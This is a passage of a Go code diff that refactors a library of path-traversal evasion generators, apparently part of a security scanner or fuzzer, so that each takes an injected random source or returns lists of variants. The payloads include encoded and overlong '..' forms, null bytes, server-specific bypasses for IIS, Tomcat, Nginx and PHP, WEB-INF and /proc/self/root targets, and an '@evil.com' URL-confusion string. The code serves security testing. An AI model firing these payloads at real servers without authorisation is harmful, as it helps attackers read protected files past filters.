-					if rand.Intn(2) == 0 {
+					if rng.Intn(2) == 0 {
 						encoded += fmt.Sprintf("&#%d;", c) // Decimal
 					} else {
 						encoded += fmt.Sprintf("&#x%x;", c) // Hex
@@ -673,7 +945,46 @@ func htmlEntityEncoding(path string) string {
 	return result
 }
 
-func multipleRepresentations(path string) string {
+// dotDotRepresentations are different representations of .. that get
+// normalized
+var dotDotRepresentations = []string{
+	"%2e%2e",     // URL encoded
+	".%2e",       // Half URL encoded
+	"%2e.",       // Half URL encoded (other half)
+	"%252e%252e", // Double URL encoded
+	"..;",        // Path parameter separator
+	"..#",        // Fragment identifier
+	"..%00",      // Null byte injection
+	"..%20",      // Space after dots
+	".%252e",     // Mixed encoding
+	"%2e%252e",   // Mixed encoding
+	"..\r",       // Carriage return
+	"..\n",       // Line feed
+	"..\t",       // Tab
+}
+
+// multipleRepresentations draws a representation for each .. segment
+func multipleRepresentations(rng evasions.Rand, path string) string {
+	return replaceDotDots(path, func() string {
+		return dotDotRepresentations[rng.Intn(len(dotDotRepresentations))]
+	})
+}
+
+// multipleRepresentationsOptions returns one variant per representation,
+// used for every .. segment
+func multipleRepresentationsOptions(path string) []string {
+	if !slices.Contains(strings.Split(path, "/"), "..") {
+		return nil
+	}
+	options := make([]string, len(dotDotRepresentations))
+	for i, representation := range dotDotRepresentations {
+		options[i] = replaceDotDots(path, func() string { return representation })
+	}
+	return options
+}
+
+// replaceDotDots rebuilds path with each .. segment replaced by next()
+func replaceDotDots(path string, next func() string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
@@ -683,23 +994,7 @@ func multipleRepresentations(path string) string {
 		}
 
 		if part == ".." {
-			// Different representations of .. that get normalized
-			options := []string{
-				"%2e%2e",     // URL encoded
-				".%2e",       // Half URL encoded
-				"%2e.",       // Half URL encoded (other half)
-				"%252e%252e", // Double URL encoded
-				"..;",        // Path parameter separator
-				"..#",        // Fragment identifier
-				"..%00",      // Null byte injection
-				"..%20",      // Space after dots
-				".%252e",     // Mixed encoding
-				"%2e%252e",   // Mixed encoding
-				"..\r",       // Carriage return
-				"..\n",       // Line feed
-				"..\t",       // Tab
-			}
-			result += options[rand.Intn(len(options))]
+			result += next()
 		} else if part != "" {
 			result += part
 		}
@@ -708,7 +1003,7 @@ func multipleRepresentations(path string) string {
 	return result
 }
 
-func encodedBackslash(path string) string {
+func encodedBackslash(rng evasions.Rand, path string) string {
 	// Replace forward slashes with encoded backslashes
 	// Works in Windows-based systems and some URL parsers
 
@@ -725,7 +1020,7 @@ func encodedBackslash(path string) string {
 				"%255C", // Double encoded uppercase backslash
 				"\\",    // Literal backslash
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		}
 
 		result += part
@@ -734,7 +1029,7 @@ func encodedBackslash(path string) string {
 	return result
 }
 
-func nestedEncoding(path string) string {
+func nestedEncoding(rng evasions.Rand, path string) string {
 	// Apply nested encoding to different parts selectively
 	parts := strings.Split(path, "/")
 	result := ""
@@ -759,13 +1054,13 @@ func nestedEncoding(path string) string {
 				"%2e%2E",
 				"%2E%2e",
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Selectively encode parts of the path
 			encoded := ""
 			for _, c := range part {
 				// Choose a random encoding level for each character
-				encodingLevel := rand.Intn(4)
+				encodingLevel := rng.Intn(4)
 				switch encodingLevel {
 				case 0:
 					encoded += string(c) // No encoding
@@ -788,7 +1083,7 @@ func nestedEncoding(path string) string {
 	return result
 }
 
-func javaServletBypass(path string) string {
+func javaServletBypassOptions(path string) []string {
 	// Specific evasion techniques for Java servlets
 	// These techniques exploit normalization quirks in Java web containers
 
@@ -801,19 +1096,19 @@ func javaServletBypass(path string) string {
 			strings.ReplaceAll(path, "../", "%252e%252e/"), // Double URL encoding
 			strings.ReplaceAll(path, "../", "..%c0%af"),    // Overlong UTF-8 encoding of slash
 		}
-		return options[rand.Intn(len(options))]
+		return options
 	}
 
-	return path
+	return nil
 }
 
-func nginxOffBySlash(path string) string {
+func nginxOffBySlashOptions(path string) []string {
 	// Nginx off-by-slash bypass technique
 	// This exploits normalization behaviors in Nginx
 
 	// First check if this is a suitable path for this technique
 	if !strings.Contains(path, "../") {
-		return path
+		return nil
 	}
 
 	options := []string{
@@ -829,19 +1124,22 @@ func nginxOffBySlash(path string) string {
 		strings.ReplaceAll(path, "../", "../ /"),
 	}
 
-	return options[rand.Intn(len(options))]
+	return options
 }
 
-func phpNullByteAlternate(path string) string {
-	// PHP-specific null byte and alternate techniques
-	// These work on older PHP versions or when PHP interacts with C libraries
-
+func phpNullByteAlternate(rng evasions.Rand, path string) string {
 	// Don't apply to every path
-	if rand.Intn(2) == 0 {
+	if rng.Intn(2) == 0 {
 		return path
 	}
+	return pick(rng, path, phpNullByteAlternateOptions(path))
+}
 
-	options := []string{
+func phpNullByteAlternateOptions(path string) []string {
+	// PHP-specific null byte and alternate techniques
+	// These work on older PHP versions or when PHP interacts with C libraries
+
+	return []string{
 		// Standard null byte injection
 		path + "%00",
 		// Standard null byte with fake file extension
@@ -854,11 +1152,9 @@ func phpNullByteAlternate(path string) string {
 		// PHP truncation trick with long strings
 		path + strings.Repeat("A", 2048), // Very long string may trigger truncation
 	}
-
-	return options[rand.Intn(len(options))]
 }
 
-func jspWebInfTraversal(path string) string {
+func jspWebInfTraversalOptions(path string) []string {
 	// JSP WEB-INF directory traversal technique
 	// Target the WEB-INF directory which is protected in Java web apps
 
@@ -878,15 +1174,15 @@ func jspWebInfTraversal(path string) string {
 			"..%252f..%252fWEB-INF/web.xml",
 		}
 
-		return options[rand.Intn(len(options))]
+		return options
 	}
 
-	return path
+	return nil
 }
 
 // Advanced evasion techniques
 
-func hexEncodedPath(path string) string {
+func hexEncodedPath(rng evasions.Rand, path string) string {
 	// Convert entire path segments to hex representation
 	parts := strings.Split(path, "/")
 	result := ""
@@ -894,7 +1190,7 @@ func hexEncodedPath(path string) string {
 	for i, part := range parts {
 		if i > 0 {
 			// Even the slashes can be hex encoded
-			if rand.Intn(3) == 0 {
+			if rng.Intn(3) == 0 {
 				result += "\\x2f"
 			} else {
 				result += "/"
@@ -906,7 +1202,7 @@ func hexEncodedPath(path string) string {
 			encoded := ""
 			for _, c := range part {
 				// Mix different hex formats
-				format := rand.Intn(3)
+				format := rng.Intn(3)
 				if format == 0 {
 					encoded += fmt.Sprintf("\\x%02x", c) // Lowercase hex
 				} else if format == 1 {
@@ -922,7 +1218,7 @@ func hexEncodedPath(path string) string {
 	return result
 }
 
-func unicodeNormalization(path string) string {
+func unicodeNormalization(rng evasions.Rand, path string) string {
 	// Use Unicode normalization form variations to bypass filters
 	parts := strings.Split(path, "/")
 	result := ""
@@ -942,12 +1238,12 @@ func unicodeNormalization(path string) string {
 				"\uFF0E\uFF0E",   // Fullwidth dot
 				"\u2024\uFF0E",   // Mixed Unicode dots
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Use Unicode normalization on normal path parts too
 			encoded := ""
 			for _, c := range part {
-				if rand.Intn(5) == 0 && c < 127 {
+				if rng.Intn(5) == 0 && c < 127 {
 					// Use Unicode variations that normalize to ASCII
 					switch c {
 					case 'a':
@@ -976,14 +1272,14 @@ func unicodeNormalization(path string) string {
 	return result
 }
 
-func percentUtf8Encoding(path string) string {
+func percentUtf8Encoding(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
 	for i, part := range parts {
 		if i > 0 {
 			// UTF-8 encode the slash sometimes
-			if rand.Intn(3) == 0 {
+			if rng.Intn(3) == 0 {
 				result += "%c0%af" // Overlong UTF-8 encoding of /
 			} else {
 				result += "/"
@@ -999,12 +1295,12 @@ func percentUtf8Encoding(path string) string {
 				"%c0%2e%c0%2e",             // Mixed encoding
 				"%c0%ae.%c0%ae",            // First dot normal, second overlong
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Maybe UTF-8 encode some characters in the path
 			encoded := ""
 			for _, c := range part {
-				if c < 128 && rand.Intn(5) == 0 {
+				if c < 128 && rng.Intn(5) == 0 {
 					// Overlong UTF-8 encoding tricks
 					encoded += fmt.Sprintf("%%c0%%%x", c+128)
 				} else {
@@ -1018,7 +1314,7 @@ func percentUtf8Encoding(path string) string {
 	return result
 }
 
-func overLongUtf8(path string) string {
+func overLongUtf8(rng evasions.Rand, path string) string {
 	// Overlong UTF-8 encoding - works on systems that don't validate UTF-8 properly
 	parts := strings.Split(path, "/")
 	result := ""
@@ -1032,7 +1328,7 @@ func overLongUtf8(path string) string {
 				"%f0%80%80%af", // 4-byte overlong
 				"/",            // Normal slash occasionally to mix things up
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		}
 
 		if part == ".." {
@@ -1045,7 +1341,7 @@ func overLongUtf8(path string) string {
 				"%c0%ae%e0%80%ae",
 				"%e0%80%ae%c0%ae",
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			result += part
 		}
@@ -1054,7 +1350,7 @@ func overLongUtf8(path string) string {
 	return result
 }
 
-func nonStandardCharset(path string) string {
+func nonStandardCharsetOptions(path string) []string {
 	// Use non-standard charset encodings
 	if strings.Contains(path, "../") {
 		options := []string{
@@ -1065,12 +1361,20 @@ func nonStandardCharset(path string) string {
 			strings.ReplaceAll(path, "../", "..%EF%BB%BF"),    // UTF-8 BOM (byte order mark)
 			strings.ReplaceAll(path, "../", "..%ED%A0%80"),    // UTF-16 surrogate
 		}
-		return options[rand.Intn(len(options))]
+		return options
+	}
+	return nil
+}
+
+func multiProtocolEvasion(rng evasions.Rand, path string) string {
+	// Don't always add a protocol - mix normal and protocol forms
+	if rng.Intn(3) == 0 {
+		return path // Return normal path sometimes
 	}
-	return path
+	return pick(rng, path, multiProtocolEvasionOptions(path))
 }
 
-func multiProtocolEvasion(path string) string {
+func multiProtocolEvasionOptions(path string) []string {
 	// Add fake protocol handler - effective against many URL parsers
 	protocols := []string{
 		"file:///",         // Basic file protocol
@@ -1090,23 +1394,20 @@ func multiProtocolEvasion(path string) string {
 		"zip://",           // PHP ZIP wrapper
 	}
 
-	// Don't always add a protocol - mix normal and protocol forms
-	if rand.Intn(3) == 0 {
-		return path // Return normal path sometimes
-	}
-
-	protocol := protocols[rand.Intn(len(protocols))]
-
 	// Handle path prefix properly
 	trimmedPath := path
 	if strings.HasPrefix(path, "/") {
 		trimmedPath = strings.TrimPrefix(path, "/")
 	}
 
-	return protocol + trimmedPath
+	options := make([]string, len(protocols))
+	for i, protocol := range protocols {
+		options[i] = protocol + trimmedPath
+	}
+	return options
 }
 
-func fragmentIdentifiers(path string) string {
+func fragmentIdentifiers(rng evasions.Rand, path string) string {
 	// Add fragment identifiers to confuse parsers
 	parts := strings.Split(path, "/")
 	result := ""
@@ -1118,24 +1419,24 @@ func fragmentIdentifiers(path string) string {
 
 		if part != "" {
 			// Add fragment identifiers at different positions
-			switch rand.Intn(5) {
+			switch rng.Intn(5) {
 			case 0:
 				// Fragment after part
-				result += part + "#" + randomString(3)
+				result += part + "#" + randomString(rng, 3)
 			case 1:
 				// Fragment before & after
-				result += "#" + randomString(2) + part + "#" + randomString(3)
+				result += "#" + randomString(rng, 2) + part + "#" + randomString(rng, 3)
 			case 2:
 				// Fragment in the middle of part
 				if len(part) > 2 {
 					midPoint := len(part) / 2
-					result += part[:midPoint] + "#" + randomString(2) + part[midPoint:]
+					result += part[:midPoint] + "#" + randomString(rng, 2) + part[midPoint:]
 				} else {
 					result += part
 				}
 			case 3:
 				// Multiple fragments
-				result += part + "#" + randomString(2) + "#" + randomString(3)
+				result += part + "#" + randomString(rng, 2) + "#" + randomString(rng, 3)
 			default:
 				result += part
 			}
@@ -1145,47 +1446,47 @@ func fragmentIdentifiers(path string) string {
 	return result
 }
 
-func randomString(length int) string {
+func randomString(rng evasions.Rand, length int) string {
 	const charset = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
 	result := ""
 	for i := 0; i < length; i++ {
-		result += string(charset[rand.Intn(len(charset))])
+		result += string(charset[rng.Intn(len(charset))])
 	}
 	return result
 }
 
-func parameterInjection(path string) string {
+func parameterInjection(rng evasions.Rand, path string) string {
 	// Add URL parameters to confuse parsers
 	// Many systems treat parameters differently in path normalization
 
 	// Parameter injection variations
 	options := []string{
 		// Basic parameter
-		path + "?x=" + randomString(5),
+		path + "?x=" + randomString(rng, 5),
 		// Multiple parameters
-		path + "?x=" + randomString(3) + "&y=" + randomString(4),
+		path + "?x=" + randomString(rng, 3) + "&y=" + randomString(rng, 4),
 		// Parameter in the middle of path
-		insertParameter(path),
+		insertParameter(rng, path),
 		// Path segment parameter (;)
-		insertPathParameter(path),
+		insertPathParameter(rng, path),
 		// Parameter with special chars
-		path + "?_" + randomString(3) + "=" + randomString(5) + "%20" + randomString(2),
+		path + "?_" + randomString(rng, 3) + "=" + randomString(rng, 5) + "%20" + randomString(rng, 2),
 		// Parameter with encoded values
-		path + "?q=%22" + randomString(5) + "%22",
+		path + "?q=%22" + randomString(rng, 5) + "%22",
 	}
 
-	return options[rand.Intn(len(options))]
+	return options[rng.Intn(len(options))]
 }
 
-func insertParameter(path string) string {
+func insertParameter(rng evasions.Rand, path string) string {
 	// Insert parameter in the middle of the path
 	parts := strings.Split(path, "/")
 	if len(parts) <= 2 {
-		return path + "?x=" + randomString(5)
+		return path + "?x=" + randomString(rng, 5)
 	}
 
 	// Choose a random position to insert the parameter
-	position := 1 + rand.Intn(len(parts)-1)
+	position := 1 + rng.Intn(len(parts)-1)
 
 	result := ""
 	for i, part := range parts {
@@ -1197,14 +1498,14 @@ func insertParameter(path string) string {
 
 		// Insert parameter at the chosen position
 		if i == position {
-			result += "?x=" + randomString(5)
+			result += "?x=" + randomString(rng, 5)
 		}
 	}
 
 	return result
 }
 
-func insertPathParameter(path string) string {
+func insertPathParameter(rng evasions.Rand, path string) string {
 	// Insert path parameter using semicolon
 	parts := strings.Split(path, "/")
 	result := ""
@@ -1214,9 +1515,9 @@ func insertPathParameter(path string) string {
 			result += "/"
 		}
 
-		if part != "" && rand.Intn(3) == 0 {
+		if part != "" && rng.Intn(3) == 0 {
 			// Add path parameter with semicolon
-			result += part + ";" + randomString(3) + "=" + randomString(5)
+			result += part + ";" + randomString(rng, 3) + "=" + randomString(rng, 5)
 		} else {
 			result += part
 		}
@@ -1225,21 +1526,28 @@ func insertPathParameter(path string) string {
 	return result
 }
 
-func mixedTraversalTechniques(path string) string {
+func mixedTraversalTechniques(rng evasions.Rand, path string) string {
+	results := mixedTraversalTechniquesOptions(rng, path)
+	return results[rng.Intn(len(results))]
+}
+
+// mixedTraversalTechniquesOptions stacks randomly chosen transforms and returns
+// every null byte form of the result
+func mixedTraversalTechniquesOptions(rng evasions.Rand, path string) []string {
 	// Combine multiple techniques for maximum effectiveness
 	result := path
 
 	// Apply 2-3 random transformations
-	transformCount := 2 + rand.Intn(2)
+	transformCount := 2 + rng.Intn(2)
 
 	// Pool of effective transformations
 	transformations := []func(string) string{
-		urlEncoding,
-		slashBackslashMix,
+		evasions.Bind(rng, urlEncoding),
+		evasions.Bind(rng, slashBackslashMix),
 		doubleSlashPadding,
-		dotDotSeparation,
-		unicodeEncoding,
-		percentUtf8Encoding,
+		evasions.Bind(rng, dotDotSeparation),
+		evasions.Bind(rng, unicodeEncoding),
+		evasions.Bind(rng, percentUtf8Encoding),
 	}
 
 	// Track used transformations to avoid duplicates
@@ -1247,30 +1555,17 @@ func mixedTraversalTechniques(path string) string {
 
 	for i := 0; i < transformCount; i++ {
 		// Choose a random transformation that hasn't been used yet
-		var transformIndex int
-		for {
-			transformIndex = rand.Intn(len(transformations))
-			if !usedTransforms[transformIndex] {
-				usedTransforms[transformIndex] = true
-				break
-			}
-
-			// If we've used all transformations, break
-			if len(usedTransforms) == len(transformations) {
-				break
-			}
-		}
+		transformIndex := pickUnused(rng, len(transformations), usedTransforms)
 
 		// Apply the transformation
 		result = transformations[transformIndex](result)
 	}
 
 	// add nullbyte injection -
-	results := nullByteInjection(result)
-	return results[rand.Intn(len(results))]
+	return nullByteInjection(result)
 }
 
-func symbolLinkBased(path string) string {
+func symbolLinkBasedOptions(target, path string) []string {
 	// Simulates symbolic link based traversal techniques
 	// These work on systems that follow symlinks before security checks
 
@@ -1279,49 +1574,37 @@ func symbolLinkBased(path string) string {
 		"/dev/null/../" + path,
 		"/proc/self/cwd/" + strings.TrimPrefix(path, "../"),
 		"/proc/self/root/" + strings.TrimPrefix(path, "../"),
-		"/etc/passwd/../../" + path,
+		"/" + target + "/../../" + path,
 		"/var/www/html/uploads/symlink/../../../" + path,
 		"/tmp/symlink/../" + path,
 		"C:\\Windows\\system32\\..\\..\\..\\..\\" + strings.ReplaceAll(path, "/", "\\"),
 	}
 
-	return options[rand.Intn(len(options))]
+	return options
 }
 
-func stackedEncodingLayers(path string) string {
+func stackedEncodingLayers(rng evasions.Rand, path string) string {
 	// Apply multiple layers of encoding - extremely effective against WAFs
 	result := path
 
 	// Define different encoding layers
 	encodings := []func(string) string{
-		urlEncoding,         // Basic URL encoding
-		doubleUrlEncoding,   // Double URL encoding
-		unicodeEncoding,     // Unicode encoding
-		nestedEncoding,      // Nested encoding with mixed formats
-		percentUtf8Encoding, // UTF-8 percent encoding
+		evasions.Bind(rng, urlEncoding),         // Basic URL encoding
+		evasions.Bind(rng, doubleUrlEncoding),   // Double URL encoding
+		evasions.Bind(rng, unicodeEncoding),     // Unicode encoding
+		evasions.Bind(rng, nestedEncoding),      // Nested encoding with mixed formats
+		evasions.Bind(rng, percentUtf8Encoding), // UTF-8 percent encoding
 	}
 
 	// Apply 2-4 random encoding layers
-	layers := 2 + rand.Intn(3)
+	layers := 2 + rng.Intn(3)
 
 	// Track used encoding methods to get a good mix
 	usedEncodings := make(map[int]bool)
 
 	for i := 0; i < layers; i++ {
 		// Choose a random encoding method that hasn't been used yet
-		var encodingIndex int
-		for {
-			encodingIndex = rand.Intn(len(encodings))
-			if !usedEncodings[encodingIndex] {
-				usedEncodings[encodingIndex] = true
-				break
-			}
-
-			// If we've used all encodings, break out
-			if len(usedEncodings) == len(encodings) {
-				break
-			}
-		}
+		encodingIndex := pickUnused(rng, len(encodings), usedEncodings)
 
 		// Apply the encoding layer
 		result = encodings[encodingIndex](result)
@@ -1330,11 +1613,28 @@ func stackedEncodingLayers(path string) string {
 	return result
 }
 
-func iisBackslashTrick(path string) string {
+// pickUnused draws an index below n that is not in used and marks it used,
+// or any index once all are used
+func pickUnused(rng evasions.Rand, n int, used map[int]bool) int {
+	var unused []int
+	for i := 0; i < n; i++ {
+		if !used[i] {
+			unused = append(unused, i)
+		}
+	}
+	if len(unused) == 0 {
+		return rng.Intn(n)
+	}
+	index := unused[rng.Intn(len(unused))]
+	used[index] = true
+	return index
+}
+
+func iisBackslashTrickOptions(path string) []string {
 	// IIS backslash and dot tricks - specific to Windows/IIS servers
 
 	if !strings.Contains(path, "../") {
-		return path
+		return nil
 	}
 
 	options := []string{
@@ -1351,10 +1651,10 @@ func iisBackslashTrick(path string) string {
 		strings.ReplaceAll(path, "../", "..\\.\\.\\"), // Multiple dot dirs
 	}
 
-	return options[rand.Intn(len(options))]
+	return options
 }
 
-func apacheMultiViewBypass(path string) string {
+func apacheMultiViewBypassOptions(path string) []string {
 	// Apache MultiViews bypass techniques
 	// These exploit content negotiation in Apache
 
@@ -1389,19 +1689,19 @@ func apacheMultiViewBypass(path string) string {
 			prefix + filename + "%2e" + extension, // URL encoded dot
 		}
 
-		return options[rand.Intn(len(options))]
+		return options
 	}
 
-	return path
+	return nil
 }
 
-func tomcatBypass(path string) string {
+func tomcatBypassOptions(path string) []string {
 	// Tomcat-specific bypass techniques
 	// These exploit specific handling in Tomcat's URL parser
 
 	// Check if we have a suitable path for these techniques
 	if !strings.Contains(path, "../") {
-		return path
+		return nil
 	}
 
 	options := []string{
@@ -1417,10 +1717,10 @@ func tomcatBypass(path string) string {
 		strings.ReplaceAll(path, "WEB-INF", "WEB-INF;jsessionid=x"), // Session ID in sensitive dir
 	}
 
-	return options[rand.Intn(len(options))]
+	return options
 }
 
-func unicodeWidthAndDirection(path string) string {
+func unicodeWidthAndDirection(rng evasions.Rand, path string) string {
 	// Unicode width variation and direction control characters
 	// These can confuse visual representation vs actual path
 
@@ -1443,12 +1743,12 @@ func unicodeWidthAndDirection(path string) string {
 				"\uff0e\uff0e",         // Full-width dots
 				"\ufe3a..\ufe39",       // Using paired brackets
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Apply similar tricks to regular path parts
-			if rand.Intn(4) == 0 {
+			if rng.Intn(4) == 0 {
 				result += "\u200e" + part + "\u200e" // Wrap in LTR marks
-			} else if rand.Intn(3) == 0 {
+			} else if rng.Intn(3) == 0 {
 				result += "\u202a" + part + "\u202c" // LTR embedding
 			} else {
 				result += part
@@ -1459,7 +1759,7 @@ func unicodeWidthAndDirection(path string) string {
 	return result
 }
 
-func httpHeaderFilePath(path string) string {
+func httpHeaderFilePathOptions(path string) []string {
 	// This technique is a placeholder since HTTP headers would be handled separately
 	// In an actual implementation, we'd inject paths into HTTP headers
 
@@ -1474,16 +1774,16 @@ func httpHeaderFilePath(path string) string {
 		"%2e%2e%2f" + path,                         // Encoded traversal
 	}
 
-	return headerInjections[rand.Intn(len(headerInjections))]
+	return headerInjections
 }
 
-func urlEncodedBackslashAtSign(path string) string {
+func urlEncodedBackslashAtSignOptions(path string) []string {
 	// URL encoded backslash followed by @ sign
 	// This can confuse URL parsers into creating unexpected paths
 
 	// Only apply to paths with traversal elements
 	if !strings.Contains(path, "../") {
-		return path
+		return nil
 	}
 
 	// Get the domain part if it exists, otherwise use a placeholder
@@ -1510,10 +1810,10 @@ func urlEncodedBackslashAtSign(path string) string {
 		"http://user:password@" + domainPart + "%5c@evil.com/" + strings.TrimPrefix(path, "../"),
 	}
 
-	return options[rand.Intn(len(options))]
+	return options
 }
 
-func nonstandardEncoding(path string) string {
+func nonstandardEncoding(rng evasions.Rand, path string) string {
 	// Non-standard encoding formats that might bypass filters
 	parts := strings.Split(path, "/")
 	result := ""
@@ -1530,7 +1830,7 @@ func nonstandardEncoding(path string) string {
 				"&#x2F;", // HTML entity hex
 				"%c0%af", // UTF-8 overlong
 			}
-			result += slashOptions[rand.Intn(len(slashOptions))]
+			result += slashOptions[rng.Intn(len(slashOptions))]
 		}
 
 		if part == ".." {
@@ -1547,14 +1847,14 @@ func nonstandardEncoding(path string) string {
 				"\\x2e\\x2e",     // Escaped hex
 				"\\056\\056",     // Octal encoding
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Potentially encode regular path parts too
-			if rand.Intn(3) == 0 {
+			if rng.Intn(3) == 0 {
 				encoded := ""
 				for _, c := range part {
 					// Choose a random encoding format for each character
-					format := rand.Intn(7)
+					format := rng.Intn(7)
 					switch format {
 					case 0:
 						encoded += string(c) // No encoding
@@ -1582,7 +1882,7 @@ func nonstandardEncoding(path string) string {
 	return result
 }
 
-func controlCharacterInjection(path string) string {
+func controlCharacterInjection(rng evasions.Rand, path string) string {
 	// Control character injection to confuse path parsing
 	parts := strings.Split(path, "/")
 	result := ""
@@ -1607,10 +1907,10 @@ func controlCharacterInjection(path string) string {
 				".%0D.",    // URL encoded CR
 				".%0D%0A.", // URL encoded CRLF
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Potentially inject control characters in regular parts too
-			if rand.Intn(5) == 0 {
+			if rng.Intn(5) == 0 {
 				controlChars := []string{
 					"%00", // Null
 					"%09", // Tab
@@ -1620,8 +1920,8 @@ func controlCharacterInjection(path string) string {
 
 				// Insert at a random position
 				if len(part) > 0 {
-					pos := rand.Intn(len(part))
-					char := controlChars[rand.Intn(len(controlChars))]
+					pos := rng.Intn(len(part))
+					char := controlChars[rng.Intn(len(controlChars))]
 					result += part[:pos] + char + part[pos:]
 				} else {
 					result += part
@@ -1635,7 +1935,7 @@ func controlCharacterInjection(path string) string {
 	return result
 }
 
-func pathParameterConfusion(path string) string {
+func pathParameterConfusion(rng evasions.Rand, path string) string {
 	// Path parameter confusion techniques
 	parts := strings.Split(path, "/")
 	result := ""
@@ -1648,19 +1948,19 @@ func pathParameterConfusion(path string) string {
 		if part == ".." {
 			// Add path parameters to confusion normalization
 			options := []string{
-				"..;x=" + randomString(3),                           // Basic path parameter
-				"..;name=" + randomString(5),                        // Named parameter
-				"..;jsessionid=" + randomString(10),                 // Session ID parameter
-				"..;x=" + randomString(3) + ";y=" + randomString(3), // Multiple parameters
+				"..;x=" + randomString(rng, 3),                                // Basic path parameter
+				"..;name=" + randomString(rng, 5),                             // Named parameter
+				"..;jsessionid=" + randomString(rng, 10),                      // Session ID parameter
+				"..;x=" + randomString(rng, 3) + ";y=" + randomString(rng, 3), // Multiple parameters
 				".;.;", // Only separators
 				".;..", // Mixed separator and dot
 				"..;",  // Trailing separator
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Add parameters to normal path segments sometimes
-			if rand.Intn(4) == 0 {
-				result += part + ";x=" + randomString(3)
+			if rng.Intn(4) == 0 {
+				result += part + ";x=" + randomString(rng, 3)
 			} else {
 				result += part
 			}